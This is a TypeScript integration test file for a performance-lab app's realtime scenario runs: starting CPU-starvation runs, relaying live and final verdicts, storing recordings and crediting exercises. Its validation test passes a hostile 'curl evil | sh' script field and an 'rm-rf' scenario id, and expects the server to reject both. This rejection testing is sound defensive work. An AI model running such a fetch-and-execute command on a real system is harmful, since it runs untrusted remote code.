// Scenario runs through the real realtime server and database: the owner starts one from
// /live, the (hand-made) agent gets only an id and resolved parameters, reports progress,
// batches feed a live verdict, and the end stores the final verdict with the run's samples
// as its recording. Strangers, bad parameters, unknown scenarios, an agent that refuses
// and malformed agent events each get a clear answer and lose nothing.
import { readRunRecording, syncCurriculum } from "@perflab/db";
import { LIVE_EVENTS, SCENARIO_EVENTS, type TLiveScenarioEvent, type TLiveScenarioVerdict } from "@perflab/protocol";
import type { Socket } from "socket.io-client";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createDatabaseScenarioStore } from "./database-scenario-store";
import { startLabHarness, TEST_CPU_STARVATION, type TLabHarness } from "./testing/lab-harness";

const MANIFEST = TEST_CPU_STARVATION;
let startRequests: { runId: string; scenarioId: string }[] = [];
let agentAnswer: (request: { runId: string }) => unknown = (request) => ({ data: { runId: request.runId } });

describe("scenario runs over /live and /agent", () => {
  let h: TLabHarness;
  beforeAll(async () => {
    h = await startLabHarness((db) => ({
      scenarioStore: createDatabaseScenarioStore(db, {
        manifests: () => [MANIFEST],
        exerciseCheck: (id) => (id === "2.2/watch-the-queue" ? { metric: "sched.procs_running", condition: "above", threshold: 4 } : undefined),
      }),
    }));
    await syncCurriculum(h.testDb.db, [{ id: "2.2", section: 2, title: "Scheduling", contentHash: "x", exercises: [{ id: "watch-the-queue", title: "Watch the queue" }] }], { isComplete: true });
  });
  afterEach(() => {
    h.disconnectClients();
    startRequests = [];
    agentAnswer = (request) => ({ data: { runId: request.runId } });
  });
  afterAll(() => h.close());

  /** The machine's agent, answering scenario:start as the test says. */
  const agent = () =>
    h.agent((client: Socket) =>
      client.on(SCENARIO_EVENTS.start, (request: { runId: string; scenarioId: string }, answer: (response: unknown) => void) => {
        startRequests.push(request);
        answer(agentAnswer(request));
      }),
    );
  const viewer = (userId: string) => h.viewer(userId);
  const sendBatch = (client: Socket, t: number, running: number) => h.sendBatch(client, t, running);
  const request = <T,>(client: Socket, event: string, payload: unknown) => h.request<T>(client, event, payload);
  const nextEvent = <T,>(client: Socket, event: string) => h.nextEvent<T>(client, event);
  const emitEvent = (client: Socket, event: object) => client.emit(SCENARIO_EVENTS.event, { t: Date.now(), ...event });

  it("the owner starts a run; the agent gets its id and parameters; events, a live verdict and the final recording follow", async () => {
    const lab = await agent();
    const browser = await viewer(h.owner.id);
    await request(browser, LIVE_EVENTS.subscribe, { machineId: h.machine.agentId, historySeconds: 0 });
    const started = await request<{ runId: string }>(browser, LIVE_EVENTS.scenarioStart, { machineId: h.machine.agentId, scenarioId: "cpu-starvation", durationSeconds: 5, parameters: { threads: 3 } });
    if (!("data" in started)) throw new Error(JSON.stringify(started));
    const { runId } = started.data;
    expect(startRequests).toEqual([{ runId, scenarioId: "cpu-starvation", durationSeconds: 5, parameters: { threads: 3 } }]);

    const progress = nextEvent<TLiveScenarioEvent>(browser, LIVE_EVENTS.scenarioEvent);
    emitEvent(lab, { runId, kind: "phase", phase: "running" });
    expect((await progress).event).toMatchObject({ runId, kind: "phase", phase: "running" });

    const liveVerdict = nextEvent<TLiveScenarioVerdict>(browser, LIVE_EVENTS.scenarioVerdict);
    await sendBatch(lab, Date.now(), 5);
    expect(await liveVerdict).toMatchObject({ runId, final: false, verdict: { reproduced: true, signals: [{ metric: "sched.procs_running", observed: 5, fired: true }] } });

    const finalVerdict = nextEvent<TLiveScenarioVerdict>(browser, LIVE_EVENTS.scenarioVerdict);
    emitEvent(lab, { runId, kind: "exit", status: "done", exitCode: 0 });
    expect(await finalVerdict).toMatchObject({ runId, final: true, status: "done", verdict: { reproduced: true } });

    const recording = await readRunRecording(h.testDb.db, h.owner as never, runId);
    expect(recording.run).toMatchObject({ status: "done", scenarioId: "cpu-starvation", parameters: { threads: 3 }, verdict: { reproduced: true } });
    expect(recording.events.map((event) => event.kind)).toEqual(["phase", "exit"]);
    expect(recording.samples.map((sample) => sample.points)).toEqual([[["sched.procs_running", 5]]]);
  });

  it("answers bad requests clearly and starts nothing: unknown scenario, parameters out of bounds, a stranger, a busy or refusing agent", async () => {
    const lab = await agent();
    const browser = await viewer(h.owner.id);
    const start = (payload: object) => request(browser, LIVE_EVENTS.scenarioStart, { machineId: h.machine.agentId, scenarioId: "cpu-starvation", ...payload });
    expect(await start({ scenarioId: "rm-rf" })).toMatchObject({ error: { code: "unknown-scenario" } });
    expect(await start({ parameters: { threads: 1000 } })).toEqual({ error: { code: "invalid-parameters", message: "threads must be a whole number from 1 to 64" } });
    expect(await start({ parameters: { script: 1 } })).toMatchObject({ error: { code: "invalid-parameters" } });
    expect(await start({ durationSeconds: 301 })).toMatchObject({ error: { code: "invalid-parameters" } });
    expect(await request(browser, LIVE_EVENTS.scenarioStart, { machineId: h.machine.agentId, scenarioId: "cpu-starvation", script: "curl evil | sh" })).toMatchObject({ error: { code: "invalid-request" } });
    const outsider = await viewer(h.stranger.id);
    expect(await request(outsider, LIVE_EVENTS.scenarioStart, { machineId: h.machine.agentId, scenarioId: "cpu-starvation" })).toMatchObject({ error: { code: "forbidden" } });
    expect(startRequests).toEqual([]);

    agentAnswer = () => ({ error: { code: "busy", message: "scenario x is running" } });
    expect(await start({})).toEqual({ error: { code: "agent-refused", message: "scenario x is running" } });
    const refused = await h.testDb.db.scenarioRun.findFirst({ where: { status: "refused" }, select: { problem: true } });
    expect(refused).toEqual({ problem: "scenario x is running" });

    // Malformed scenario events from the agent are counted, never stored.
    const before = (await h.testDb.db.agent.findUniqueOrThrow({ where: { id: h.machine.agentId }, select: { malformedPayloads: true } })).malformedPayloads;
    lab.emit(SCENARIO_EVENTS.event, { runId: "x", kind: "reboot" });
    lab.emit(SCENARIO_EVENTS.event, "not an object");
    await expect.poll(async () => (await h.testDb.db.agent.findUniqueOrThrow({ where: { id: h.machine.agentId }, select: { malformedPayloads: true } })).malformedPayloads).toBe(before + 2);
  });

  it("a run started for an exercise records the exercise as done, with the run as evidence, only when the exercise's check holds", async () => {
    const lab = await agent();
    const browser = await viewer(h.owner.id);
    await request(browser, LIVE_EVENTS.subscribe, { machineId: h.machine.agentId, historySeconds: 0 });
    const runFor = async (running: number) => {
      const started = await request<{ runId: string }>(browser, LIVE_EVENTS.scenarioStart, { machineId: h.machine.agentId, scenarioId: "cpu-starvation", durationSeconds: 5, exerciseId: "2.2/watch-the-queue" });
      if (!("data" in started)) throw new Error(JSON.stringify(started));
      await sendBatch(lab, Date.now(), running);
      const final = new Promise<void>((resolve) => browser.on(LIVE_EVENTS.scenarioVerdict, (message: TLiveScenarioVerdict) => message.final && message.runId === started.data.runId && resolve()));
      emitEvent(lab, { runId: started.data.runId, kind: "exit", status: "done", exitCode: 0 });
      await final;
      await new Promise((resolve) => setTimeout(resolve, 300)); // the evidence is written right after the verdict
      return started.data.runId;
    };
    await runFor(3); // reproduced (above 2), but the exercise wants above 4
    expect(await h.testDb.db.exerciseAttempt.count({ where: { userId: h.owner.id } })).toBe(0);
    const runId = await runFor(6);
    const attempts = await h.testDb.db.exerciseAttempt.findMany({ where: { userId: h.owner.id }, select: { topicId: true, exerciseId: true, outcome: true, evidence: true } });
    expect(attempts).toEqual([{ topicId: "2.2", exerciseId: "watch-the-queue", outcome: "DONE", evidence: { kind: "scenario-run", runId, note: "sched.procs_running peaked at 6 (the exercise checks above 4)" } }]);
  });
});
